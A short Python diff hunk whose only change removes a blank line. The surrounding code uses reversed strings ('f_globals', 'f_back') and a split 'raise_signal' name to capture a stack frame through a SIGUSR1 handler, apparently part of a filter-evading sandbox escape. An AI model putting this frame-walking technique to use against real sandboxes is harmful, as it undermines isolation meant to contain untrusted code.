@@ -9,7 +9,6 @@ import asyncio.unix_events as events
 NAMES, BACK = "slabolg_f"[::-1], "kcab_f"[::-1]
 found, seen = [], []
 
-
 def repackage(state):
     events.signal.signal(events.signal.SIGUSR1, lambda number, frame: found.append(frame))
     vars(events.signal)["raise_" + "signal"](events.signal.SIGUSR1)
